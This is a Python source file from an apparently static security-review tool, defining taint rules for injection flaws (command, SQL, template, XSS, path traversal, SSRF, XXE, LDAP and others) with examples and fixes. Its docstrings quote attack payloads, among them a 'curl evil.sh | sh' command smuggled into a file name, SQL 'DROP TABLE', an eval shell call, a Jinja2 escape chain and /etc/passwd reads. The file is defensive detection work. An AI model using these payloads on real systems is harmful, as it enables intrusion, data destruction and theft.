"""Injection-class rules: untrusted data reaching an interpreter, a file system, a network peer.

Every rule here is a declaration over the data-flow engine (:mod:`secreview.python.dataflow`):
the sink kinds it cares about, the source kinds it trusts, and the fix it proposes for one
flow.  What counts as a source, a sink, a sanitiser or a validation lives in the model files
(:mod:`secreview.models`), never here.
"""

from __future__ import annotations

from . import taint_rule


@taint_rule(id="os-command-injection", bandit=("B602", "B603", "B604", "B605", "B606"),
            ruff=("S602", "S603", "S604", "S605", "S606"),
            cwe=78, severity="critical",
            summary="Untrusted data reaches an operating-system command",
            sinks=("shell", "command"))
def os_command_injection(flow) -> str:
    """
    ## What it does
    Follows request data (and, at low confidence, values of unknown origin) into shell commands
    (`subprocess.*` with `shell=True`, `os.system`, `os.popen`), into the program name of a
    command (`subprocess.run(cmd)` with a string or a list whose first element is not fixed,
    `os.exec*`, `os.spawn*`, `pty.spawn`) and into OpenStack `processutils.execute`.

    ## Why it matters
    A shell interprets `;`, `|`, `$(...)` and backquotes: a file name such as
    `x; curl evil.sh | sh` runs the attacker's commands with the service's privileges.

    ## Example
    ```python
    name = request.args["name"]
    subprocess.run(f"convert {name} out.png", shell=True)
    ```

    ## Fix
    Pass a list of arguments without `shell=True`, with the program fixed:
    `subprocess.run(["convert", name, "out.png"])`.  Where a shell is unavoidable, quote each
    value with `shlex.quote`.

    ## References
    - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    - https://docs.python.org/3/library/subprocess.html#security-considerations
    """
    if flow.kind == "shell":
        return (f"Pass the command as a list without shell=True, e.g. subprocess.run([\"program\", {flow.label.var or 'value'}]); "
                "if a shell is unavoidable, quote each value with shlex.quote().")
    return "Fix the program to a constant and pass untrusted values only as later list elements, after an allow-list check."


@taint_rule(id="argument-injection", bandit=("B603", "B606"), ruff=("S603", "S606"),
            cwe=88, severity="high",
            summary="Untrusted data becomes an option of a fixed command",
            sinks=("argument",), confidence="medium")
def argument_injection(flow) -> str:
    """
    ## What it does
    Flags request data placed among the arguments of a command whose program is fixed
    (`subprocess.run(["git", "clone", url])`) when no `--` separates options from operands.

    ## Why it matters
    A value starting with `-` is read as an option: `--upload-pack=touch /tmp/x` for git,
    `-oProxyCommand=...` for ssh, `--output` for curl.  The program is fixed, but what it does is
    not.

    ## Example
    ```python
    subprocess.run(["git", "clone", request.form["repo"]])
    ```

    ## Fix
    Put `--` before untrusted operands (`["git", "clone", "--", repo]`) and reject values that
    start with `-`.

    ## References
    - CWE-88: Improper Neutralization of Argument Delimiters in a Command
    - https://sonarsource.github.io/argument-injection-vectors/
    """
    return (f"Insert \"--\" before `{flow.variable}` in the argument list and reject values starting with \"-\" "
            "before running the command.")


@taint_rule(id="sql-injection", bandit=("B608", "B610", "B611"), ruff=("S608", "S610", "S611"),
            cwe=89, severity="critical",
            summary="Untrusted data is formatted into an SQL query",
            sinks=("sql",))
def sql_injection(flow) -> str:
    """
    ## What it does
    Follows request data into the query text of DB-API `execute`/`executemany`/`executescript`,
    SQLAlchemy `text()`/`exec_driver_sql`, and Django `raw`/`extra`/`RawSQL`.  Values passed in
    the parameters argument are bound by the driver and are safe; query text built by formatting
    or concatenation with values of unknown origin is reported at low confidence.

    ## Why it matters
    A quote in the value ends the string literal and the rest is SQL: `' OR '1'='1` reads every
    row, `'; DROP TABLE users; --` destroys them.

    ## Example
    ```python
    cursor.execute(f"SELECT * FROM users WHERE name = '{name}'")
    ```

    ## Fix
    Use a parameterised query: `cursor.execute("SELECT * FROM users WHERE name = %s", (name,))`
    (`?` for sqlite3, `:name` with SQLAlchemy `text()` and bound parameters).

    ## References
    - CWE-89: Improper Neutralization of Special Elements used in an SQL Command
    - https://peps.python.org/pep-0249/#paramstyle
    """
    value = flow.label.var or "value"
    return (f"Keep the query text constant and pass `{value}` as a bound parameter, e.g. "
            f"cursor.execute(\"SELECT ... WHERE id = %s\", ({value},)).")


@taint_rule(id="code-injection", bandit=("B102", "B307"), ruff=("S102", "S307"),
            cwe=94, severity="critical",
            summary="Untrusted data is evaluated as Python code",
            sinks=("code",))
def code_injection(flow) -> str:
    """
    ## What it does
    Follows request data (and, at low confidence, values of unknown origin) into `eval`, `exec`
    and `compile`.  Constant code is not reported.

    ## Why it matters
    `eval` runs whatever expression it is given: `__import__('os').system('id')` is an
    expression.  There is no safe subset of Python to allow by filtering text.

    ## Example
    ```python
    result = eval(request.args["expr"])
    ```

    ## Fix
    Parse data with `ast.literal_eval` (literals only) or `json.loads`; map names to functions
    with a dictionary instead of evaluating them.

    ## References
    - CWE-94: Improper Control of Generation of Code
    - https://docs.python.org/3/library/ast.html#ast.literal_eval
    """
    return f"Replace the evaluation of `{flow.variable}` with ast.literal_eval() or json.loads(), or dispatch through a dict of allowed operations."


@taint_rule(id="unsafe-reflection", cwe=470, severity="high",
            summary="Untrusted data selects a module or attribute to load",
            sinks=("reflection",))
def unsafe_reflection(flow) -> str:
    """
    ## What it does
    Flags request data used as a module name (`importlib.import_module`, `__import__`) or as an
    attribute name (`getattr(obj, name)`).

    ## Why it matters
    The caller chooses which code runs: any importable module (and its import-time side
    effects), any method of the object, including private ones.

    ## Example
    ```python
    handler = getattr(actions, request.args["action"])
    ```

    ## Fix
    Look the name up in an explicit allow-list: `HANDLERS = {"start": start, "stop": stop}` and
    `HANDLERS[name]`, rejecting unknown names.

    ## References
    - CWE-470: Use of Externally-Controlled Input to Select Classes or Code
    """
    return f"Map `{flow.variable}` through an explicit dict of allowed modules or functions and reject anything else."


@taint_rule(id="template-injection", cwe=1336, severity="critical",
            summary="Untrusted data is compiled as a template",
            sinks=("template",))
def template_injection(flow) -> str:
    """
    ## What it does
    Flags request data used as the template source of `render_template_string`,
    `jinja2.Template`, `Environment.from_string`, Mako and Django `Template`.

    ## Why it matters
    Template languages reach Python objects: `{{ ''.__class__.__mro__[1].__subclasses__() }}`
    leads to code execution in Jinja2.  Data belongs in the template's context, not its text.

    ## Example
    ```python
    return render_template_string("<h1>Hello " + name + "</h1>")
    ```

    ## Fix
    Keep the template constant and pass values as context:
    `render_template_string("<h1>Hello {{ name }}</h1>", name=name)`.

    ## References
    - CWE-1336: Improper Neutralization of Special Elements Used in a Template Engine
    - https://jinja.palletsprojects.com/en/stable/sandbox/
    """
    value = flow.label.var or "value"
    return f"Keep the template text constant and pass `{value}` as a context variable: render_template_string(\"... {{{{ {value} }}}}\", {value}={value})."


@taint_rule(id="xss", bandit=("B308", "B703", "B704"), ruff=("S308", "S704"),
            cwe=79, severity="high",
            summary="Untrusted data is written into an HTML response unescaped",
            sinks=("html",))
def xss(flow) -> str:
    """
    ## What it does
    Follows request data into HTML response bodies (`make_response`, `Response`,
    `HttpResponse` without a non-HTML content type, strings returned by Flask views) and into
    strings marked safe (`Markup`, `mark_safe`).

    ## Why it matters
    The browser runs a `<script>` the attacker put in a parameter, in the site's origin, with the
    victim's cookies and session.

    ## Example
    ```python
    return f"<p>Hello {request.args['name']}</p>"
    ```

    ## Fix
    Render through an autoescaping template (`render_template("hello.html", name=name)`) or
    escape the value with `markupsafe.escape` / `html.escape` before building HTML.

    ## References
    - CWE-79: Improper Neutralization of Input During Web Page Generation
    - https://owasp.org/www-community/attacks/xss/
    """
    return f"Escape `{flow.label.var or flow.variable}` with markupsafe.escape() (or render it through an autoescaping template) before it enters the HTML."


@taint_rule(id="path-traversal", cwe=22, severity="high",
            summary="Untrusted data chooses a file system path",
            sinks=("path",))
def path_traversal(flow) -> str:
    """
    ## What it does
    Follows request data into file system paths: `open`, `io.open`, `codecs.open`, `os.*` and
    `shutil.*` file operations, `pathlib.Path` methods, Flask `send_file`, Django
    `FileResponse`.  `os.path.basename`, `secure_filename` and a containment check of the
    resolved path against the base directory clean it.

    ## Why it matters
    `../../etc/passwd` or an absolute path escapes the directory the code meant: the attacker
    reads, overwrites or deletes any file the service can.

    ## Example
    ```python
    return open(os.path.join(UPLOADS, request.args["name"])).read()
    ```

    ## Fix
    Reduce the name to its last component (`os.path.basename` or `secure_filename`), then check
    that `os.path.realpath(path)` stays under the base directory, or use `send_from_directory`.

    ## References
    - CWE-22: Improper Limitation of a Pathname to a Restricted Directory
    """
    value = flow.label.var or "name"
    return (f"Apply os.path.basename()/secure_filename() to `{value}`, join it to the base directory and "
            "check os.path.realpath(path).startswith(BASE + os.sep) before using it.")


@taint_rule(id="open-redirect", cwe=601, severity="medium",
            summary="Untrusted data chooses where a redirect goes",
            sinks=("redirect",))
def open_redirect(flow) -> str:
    """
    ## What it does
    Flags request data used as the target of `redirect`, `HttpResponseRedirect`,
    `RedirectResponse` or a `Location` header, unless a constant prefix fixes the host or path
    or the URL was checked (`url_has_allowed_host_and_scheme`, a host allow-list).

    ## Why it matters
    A link on the trusted domain sends the victim to a phishing page; OAuth flows leak tokens
    to the attacker's host.

    ## Example
    ```python
    return redirect(request.args["next"])
    ```

    ## Fix
    Accept only relative paths or allow-listed hosts: check with
    `url_has_allowed_host_and_scheme(url, allowed_hosts={request.host})` and fall back to a
    fixed page.

    ## References
    - CWE-601: URL Redirection to Untrusted Site
    """
    return (f"Redirect to `{flow.label.var or flow.variable}` only after url_has_allowed_host_and_scheme() (or an allow-list of hosts) "
            "accepts it; otherwise redirect to a fixed page.")


@taint_rule(id="ssrf", cwe=918, severity="high",
            summary="Untrusted data chooses the host of an outbound request",
            sinks=("url",))
def ssrf(flow) -> str:
    """
    ## What it does
    Follows request data into the URL of outbound requests (`requests`, `httpx`, `aiohttp`,
    `urllib.request`, `http.client` hosts).  A URL whose constant prefix fixes the scheme and
    host (`f"https://api.example.com/users/{uid}"`) is not reported.

    ## Why it matters
    The server fetches what the attacker names: cloud metadata endpoints
    (`169.254.169.254`), internal admin services, files through `file://`.

    ## Example
    ```python
    requests.get(request.args["url"])
    ```

    ## Fix
    Build the URL from a fixed scheme and host, or parse it and check the host against an
    allow-list before the request.

    ## References
    - CWE-918: Server-Side Request Forgery (SSRF)
    """
    return (f"Fix the scheme and host in code and let `{flow.label.var or flow.variable}` choose only the path, "
            "or check urlparse(url).hostname against an allow-list before the request.")


@taint_rule(id="xml-external-entity-injection", bandit=("B313", "B314", "B315", "B316", "B317", "B318", "B319", "B320"),
            ruff=("S313", "S314", "S315", "S316", "S317", "S318", "S319", "S320"),
            cwe=611, severity="high",
            summary="Untrusted XML is parsed by a parser that resolves external entities",
            sinks=("xml",))
def xxe(flow) -> str:
    """
    ## What it does
    Flags request data parsed by XML parsers that resolve entities: `lxml.etree.fromstring`,
    `parse` and `XML` without a parser built with `resolve_entities=False`, and SAX/pulldom
    parsers with external entities enabled.  The standard library's ElementTree and minidom do
    not load external entities and are not reported.

    ## Why it matters
    `<!ENTITY x SYSTEM "file:///etc/passwd">` makes the parser read local files into the
    document, or fetch internal URLs.

    ## Example
    ```python
    doc = etree.fromstring(request.data)
    ```

    ## Fix
    Parse with `defusedxml`, or give lxml a parser that does not resolve entities:
    `etree.XMLParser(resolve_entities=False, no_network=True)`.

    ## References
    - CWE-611: Improper Restriction of XML External Entity Reference
    - https://pypi.org/project/defusedxml/
    """
    return "Parse with defusedxml, or pass parser=etree.XMLParser(resolve_entities=False, no_network=True)."


@taint_rule(id="xpath-injection", cwe=643, severity="high",
            summary="Untrusted data is formatted into an XPath expression",
            sinks=("xpath",))
def xpath_injection(flow) -> str:
    """
    ## What it does
    Flags request data formatted into XPath expressions (`tree.xpath(expr)`, `etree.XPath`,
    ElementTree `find`/`findall`/`iterfind`/`findtext`).  XPath variables
    (`tree.xpath("//user[@name=$name]", name=value)`) are safe.

    ## Why it matters
    A quote ends the literal: `' or '1'='1` selects every node, bypassing a lookup that guards
    authentication or authorisation.

    ## Example
    ```python
    root.xpath(f"//user[@name='{name}']")
    ```

    ## Fix
    Use XPath variables: `root.xpath("//user[@name=$name]", name=name)`.

    ## References
    - CWE-643: Improper Neutralization of Data within XPath Expressions
    """
    value = flow.label.var or "value"
    return f"Pass `{value}` as an XPath variable: tree.xpath(\"//node[@attr=${value}]\", {value}={value})."


@taint_rule(id="ldap-injection", cwe=90, severity="high",
            summary="Untrusted data is formatted into an LDAP filter or DN",
            sinks=("ldap",))
def ldap_injection(flow) -> str:
    """
    ## What it does
    Flags request data in the search filter or base DN of `ldap3` `Connection.search` and
    python-ldap `search_s`/`search`/`search_ext`, unless escaped with `escape_filter_chars` /
    `escape_dn_chars`.

    ## Why it matters
    `*)(uid=*))(|(uid=*` rewrites the filter: a lookup of one user matches all of them, an
    authentication check passes for anyone.

    ## Example
    ```python
    conn.search("dc=example,dc=com", f"(uid={username})")
    ```

    ## Fix
    Escape values: `f"(uid={escape_filter_chars(username)})"` (`ldap3.utils.conv`) or
    `ldap.filter.filter_format("(uid=%s)", [username])`.

    ## References
    - CWE-90: Improper Neutralization of Special Elements used in an LDAP Query
    """
    return f"Escape `{flow.label.var or flow.variable}` with ldap3.utils.conv.escape_filter_chars() (filters) or ldap.dn.escape_dn_chars() (DNs)."


@taint_rule(id="log-injection", cwe=117, severity="low",
            summary="Untrusted data is written to a log without neutralising line breaks",
            sinks=("log",))
def log_injection(flow) -> str:
    """
    ## What it does
    Flags request data in the message or arguments of `logging` calls and logger methods when
    it has not been cleared of line breaks (`.replace("\\n", "")`, `repr`, `%r`, `json.dumps`).

    ## Why it matters
    A value with a newline forges log entries (`ok\\nINFO admin logged in`), misleading audits
    and log-based alerting.

    ## Example
    ```python
    log.info("login failed for %s", request.form["user"])
    ```

    ## Fix
    Log `%r` (repr) of untrusted values, or strip `\\r` and `\\n` before logging.

    ## References
    - CWE-117: Improper Output Neutralization for Logs
    """
    return f"Log {flow.label.var or 'the value'!s} with %r (repr), or remove \\r and \\n from it before logging."


@taint_rule(id="header-injection", cwe=113, severity="medium",
            summary="Untrusted data is written into an HTTP response header",
            sinks=("header",))
def header_injection(flow) -> str:
    """
    ## What it does
    Flags request data written into response headers (`response.headers[name] = value`,
    `headers.add`, Django `response[name] = value`) without removing line breaks.

    ## Why it matters
    A CR/LF in the value ends the header: the attacker adds headers (`Set-Cookie`) or a body
    (response splitting), poisoning caches.

    ## Example
    ```python
    resp.headers["X-Name"] = request.args["name"]
    ```

    ## Fix
    Reject values containing `\\r` or `\\n`, or allow-list them, before setting the header.

    ## References
    - CWE-113: Improper Neutralization of CRLF Sequences in HTTP Headers
    """
    return f"Reject `{flow.label.var or flow.variable}` when it contains \\r or \\n (or allow-list its values) before setting the header."


@taint_rule(id="trust-boundary-violation", cwe=501, severity="medium",
            summary="Untrusted data is stored in the server-side session",
            sinks=("session",))
def trust_boundary_violation(flow) -> str:
    """
    ## What it does
    Flags request data stored in the session (`session[key] = value` in Flask,
    `request.session[key] = value` in Django) without validation.

    ## Why it matters
    Code that reads the session trusts it as server state: a role, a user id or a redirect
    target put there from a parameter becomes a trusted value elsewhere.

    ## Example
    ```python
    session["role"] = request.args["role"]
    ```

    ## Fix
    Validate the value against an allow-list (or derive it server-side) before storing it in
    the session.

    ## References
    - CWE-501: Trust Boundary Violation
    """
    return f"Validate `{flow.label.var or flow.variable}` against the values the application allows before storing it in the session."


@taint_rule(id="nosql-injection", cwe=943, severity="high",
            summary="Untrusted data builds a NoSQL query operator or document",
            sinks=("nosql",))
def nosql_injection(flow) -> str:
    """
    ## What it does
    Flags request data that becomes a whole MongoDB query document (`find(json.loads(body))`)
    or the value of an operator that runs code or patterns (`$where`, `$regex`, `$function`).
    A request value compared as a field value (`{"name": name}`) is not reported.

    ## Why it matters
    `$where` runs JavaScript on the server; a query document from the client can use `$ne`,
    `$gt` and `$regex` to match every record and bypass lookups.

    ## Example
    ```python
    db.users.find({"$where": f"this.name == '{name}'"})
    ```

    ## Fix
    Build the query from fixed operators with values as plain fields:
    `db.users.find({"name": str(name)})`; escape patterns with `re.escape`.

    ## References
    - CWE-943: Improper Neutralization of Special Elements in Data Query Logic
    """
    return f"Build the query document in code with `{flow.label.var or flow.variable}` only as a field value (cast to str), never as an operator or a whole document."


@taint_rule(id="regex-injection", cwe=1333, severity="medium",
            summary="Untrusted data is compiled as a regular expression",
            sinks=("regex",))
def regex_injection(flow) -> str:
    """
    ## What it does
    Flags request data used as the pattern of `re.compile`, `re.match`, `re.search`,
    `re.sub` and friends, unless escaped with `re.escape`.

    ## Why it matters
    A pattern such as `(a+)+$` backtracks exponentially: one request pins a CPU (ReDoS).  The
    pattern may also match far more than intended.

    ## Example
    ```python
    re.search(request.args["q"], text)
    ```

    ## Fix
    Escape the value: `re.search(re.escape(q), text)`, or use plain substring search.

    ## References
    - CWE-1333: Inefficient Regular Expression Complexity
    """
    return f"Escape `{flow.label.var or flow.variable}` with re.escape() before using it in a pattern."
